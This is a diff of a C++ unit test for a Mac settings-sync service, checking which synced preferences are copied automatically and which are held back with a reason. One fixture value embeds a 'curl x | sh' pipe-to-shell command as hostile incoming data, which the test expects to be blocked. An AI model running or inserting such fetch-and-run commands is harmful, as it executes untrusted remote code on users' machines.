@@ -1,8 +1,7 @@
-// What sync at login and automatic sync may copy from another Mac without asking, judged against
-// another Mac's document with every protection off, values macOS writes, a list of recent places,
-// a value of the wrong kind and an unknown id, over this Mac's real change history with a reset
-// and later choices, under server times true and false. What waits for a tick keeps its row and
-// says why.
+// What sync at login and automatic sync may copy from another Mac without asking: only a plain
+// switch, choice or slider, holding a value its control offers, that this Mac lacks and that its
+// user decided nothing on, whatever the other Mac's clock. Everything else keeps its row and says
+// why; an unreadable change history holds every row.
 
 #include <gtest/gtest.h>
 
@@ -13,74 +12,82 @@ using namespace amberloom;
 namespace th = amberloom::testing;
 using V = PreferenceValue;
 using Reason = SyncRowCaution::Reason;
-using C = std::optional<SyncRowCaution>;
+using T = SettingValueType;
+using K = SettingControl;
 
-TEST(UnattendedCopy, OnlyWhatNobodyNeedsToBeAskedAboutComesOverAndTheRestWaitsWithItsReason) {
-  const auto setting = [](std::string id, SettingValueType type, bool protection = false, bool system = false) {
-    auto s = th::makeSetting(id, SettingRef{"com.example.dock", {id}, false}, type);
-    s.risk = protection ? SettingRisk::weakensSecurity : SettingRisk::none;
-    s.systemWritten = system;
-    return s;
-  };
-  using T = SettingValueType;
-  const SettingsCatalog catalog(1, 1,
-                                {setting("quarantine", T::boolean, true), setting("layout", T::string, false, true),
-                                 setting("recents", T::array, false, true), setting("autohide", T::boolean),
-                                 setting("tile", T::real), setting("magnify", T::boolean), setting("count", T::integer),
-                                 setting("old", T::boolean), setting("again", T::boolean),
-                                 setting("local", T::boolean)});
-  th::LivePreferences prefs;
-  double now = 0;
-  const IntentLog history(th::supportFile("intents.json"), "23F79", [&] { return now; });
-  const SyncService sync(catalog, SettingsService(prefs.resolver, prefs.store), prefs.resolver, prefs.store, "MAC-A",
-                         "Studio", history);
-  prefs.put("com.example.dock", "local", V::boolean(true));
-  // Here the user set "old" long ago, reset the icon size at 500 and chose magnification and
-  // "again" at 2000; other apps have since removed all but the reset.
-  for (const auto& [at, id, value] : std::vector<std::tuple<double, std::string, std::optional<V>>>{
-           {100, "old", V::boolean(false)}, {500, "tile", std::nullopt}, {2000, "magnify", V::boolean(true)},
-           {2000, "again", V::boolean(true)}}) {
-    now = at;
-    history.record(id, value);
-  }
-  const auto received = SyncDocument::fromData(
-      SyncDocument{"MAC-B", "Office",
-                   {{"quarantine", V::boolean(false)}, {"layout", V::string("Dvorak")},
-                    {"recents", V::array({V::string("/Volumes/Office")})}, {"autohide", V::boolean(true)},
-                    {"tile", V::real(48)}, {"magnify", V::boolean(false)}, {"count", V::string("3")},
-                    {"old", V::boolean(true)}, {"again", V::boolean(true)}, {"newer.catalog.only", V::boolean(true)}}}
-          .encoded());
-  const auto rows = sync.compare(received, {});
-  std::vector<std::string> ids;
-  for (const auto& row : rows) ids.push_back(row.settingID);
-  EXPECT_EQ(ids, (std::vector<std::string>{"quarantine", "layout", "autohide", "tile", "magnify", "count", "old", "again",
-                                           "local"}));
-
-  const C protection{{Reason::weakensSecurity, {}}}, system{{Reason::systemWritten, {}}}, kind{{Reason::wrongKind, {}}},
-      reset{{Reason::resetHere, 500.0}}, magnify{{Reason::chosenHere, 2000.0}}, old{{Reason::chosenHere, 100.0}};
+TEST(UnattendedCopy, OnlyAPlainOfferedValueNobodyDecidedOnComesOverAndTheRestWaitsWithItsReason) {
+  const auto sides = K::choice({{V::string("left"), "Left"}, {V::string("bottom"), "Bottom"}});
   const struct {
-    std::optional<double> sharedAt;  // when the other Mac shared, as the server says
-    std::vector<C> cautions;         // one per row above
-    std::vector<std::string> copied;
-  } cases[] = {
-      // "again" brings back the very value chosen here: no choice stands against it.
-      {1000.0, {protection, system, {}, reset, magnify, kind, {}, {}, {}}, {"autohide", "old", "again"}},
-      {3000.0, {protection, system, {}, reset, {}, kind, {}, {}, {}}, {"autohide", "magnify", "old", "again"}},
-      // A time far in the future undoes no reset and switches no protection.
-      {1e15, {protection, system, {}, reset, {}, kind, {}, {}, {}}, {"autohide", "magnify", "old", "again"}},
-      // Without a time, every other choice made here is the newer.
-      {std::nullopt, {protection, system, {}, reset, magnify, kind, old, {}, {}}, {"autohide", "again"}},
+    std::string id; T type; SettingControl control; V incoming;
+    std::optional<Reason> expected;  // none: it comes over by itself, unless this Mac has a value
+  } rows[] = {
+      {"quarantine", T::boolean, K::toggle(), V::boolean(false), Reason::weakensSecurity},
+      {"layout", T::string, K::text(), V::string("com.apple.keylayout.Dvorak"), Reason::systemWritten},
+      {"count", T::integer, K::toggle(), V::string("3"), Reason::wrongKind},
+      {"homePage", T::string, K::text(), V::string("http://example.com"), Reason::notPlain},
+      {"profiles", T::dictionary, K::unsupported(), V::dictionary({{"CommandString", V::string("curl x | sh")}}),
+       Reason::notPlain},
+      {"profile", T::string, K::choice({{V::string("Basic"), "Basic"}}), V::string("Basic"), Reason::asksFirst},
+      {"sideways", T::string, sides, V::string("sideways"), Reason::notOffered},
+      {"huge", T::real, K::slider({16, 128, 1}), V::real(100000), Reason::notOffered},
+      {"twoOfToggle", T::integer, K::toggle(), V::integer(2), Reason::notOffered},
+      {"autohide", T::boolean, K::toggle(), V::boolean(true), std::nullopt},
+      {"orientation", T::string, sides, V::string("left"), std::nullopt},
+      {"tile", T::real, K::slider({16, 128, 1}), V::integer(64), Reason::wrongKind},
+      {"size", T::real, K::slider({16, 128, 1}), V::real(64), std::nullopt},
+      {"reset", T::boolean, K::toggle(), V::boolean(true), Reason::resetHere},
+      {"chosen", T::boolean, K::toggle(), V::boolean(true), Reason::chosenHere},
+      {"again", T::boolean, K::toggle(), V::boolean(true), std::nullopt},
+      {"undone", T::boolean, K::toggle(), V::boolean(true), Reason::takenBack},
+      {"declined", T::boolean, K::toggle(), V::boolean(true), Reason::declinedHere},
+      {"local", T::boolean, K::toggle(), V::boolean(true), std::nullopt},
   };
-  for (const auto& c : cases) {
-    SCOPED_TRACE(c.sharedAt.value_or(-1));
-    EXPECT_EQ(sync.cautions(rows, c.sharedAt), c.cautions);
+  std::vector<SettingDefinition> settings;
+  PreferenceValue::Dictionary shared;
+  for (const auto& row : rows) {
+    auto s = th::makeSetting(row.id, SettingRef{"com.example.dock", {row.id}, false}, row.type, row.control);
+    s.risk = row.id == "quarantine" ? SettingRisk::weakensSecurity : SettingRisk::none;
+    s.systemWritten = row.id == "layout";
+    s.asksBeforeSync = row.id == "profile";
+    settings.push_back(s);
+    shared.insert_or_assign(row.id, row.incoming);
+  }
+  th::LivePreferences prefs;
+  double now = 100;
+  const IntentLog history(th::supportFile("intents.json"), "23F79", [&] { return now; });
+  const SyncService sync(SettingsCatalog(1, 1, settings), SettingsService(prefs.resolver, prefs.store), prefs.resolver,
+                         prefs.store, "MAC-A", "Studio", history);
+  prefs.put("com.example.dock", "local", V::boolean(false));
+  history.record({{"reset", std::nullopt}, {"chosen", V::boolean(false)}, {"again", V::boolean(true)}});
+  history.held().hold({"undone"}, SettingHold::Why::tookBack);
+  history.held().hold({"declined"}, SettingHold::Why::declined);
+  const auto received = SyncDocument::fromData(SyncDocument{"MAC-B", "Office", shared}.encoded());
+
+  for (const bool damaged : {false, true}) {
+    SCOPED_TRACE(damaged ? "an unreadable history" : "a history that reads");
+    if (damaged) th::writeFile(history.path(), "[{\"settingID\": ");
+    const auto compared = sync.compare(received, {});
+    ASSERT_EQ(compared.size(), std::size(rows));
+    std::vector<std::string> copied;
+    for (std::size_t i = 0; i < compared.size(); ++i) {
+      const auto& row = rows[i];
+      const bool lacking = compared[i].difference.kind() == SyncDifference::Case::onlyThere;
+      const bool decides = !row.expected || *row.expected >= Reason::resetHere;
+      const auto expected = damaged && lacking && decides ? std::optional(Reason::historyLost) : row.expected;
+      const auto caution = sync.cautions({compared[i]}).front();
+      EXPECT_EQ(caution ? std::optional(caution->reason) : std::nullopt, expected) << row.id;
+      if (!expected && lacking) copied.push_back(row.id);
+    }
     std::vector<std::string> unattended, atLogin;
-    for (const auto& row : sync.unattended(rows, c.sharedAt)) unattended.push_back(row.settingID);
-    EXPECT_EQ(unattended, c.copied);
-    std::map<std::string, double> sharedAt;
-    if (c.sharedAt) sharedAt["MAC-B"] = *c.sharedAt;
-    for (const auto& row : sync.missingHere(SyncService::ReadResult({received}, {}, sharedAt), {}))
-      atLogin.push_back(row.settingID);
-    EXPECT_EQ(atLogin, c.copied) << "sync at login judges the same way";
+    for (const auto& row : sync.unattended(compared)) unattended.push_back(row.settingID);
+    EXPECT_EQ(unattended, copied);
+    // Sync at login judges the same way, whatever time the server gives the other Mac.
+    for (const double sharedAt : {-1e15, 0.0, 1e15}) {
+      atLogin.clear();
+      for (const auto& row : sync.missingHere(SyncService::ReadResult({received}, {}, {{"MAC-B", sharedAt}}), {}))
+        atLogin.push_back(row.settingID);
+      EXPECT_EQ(atLogin, copied);
+    }
+    EXPECT_EQ(sync.historyDamage().has_value(), damaged);
   }
 }
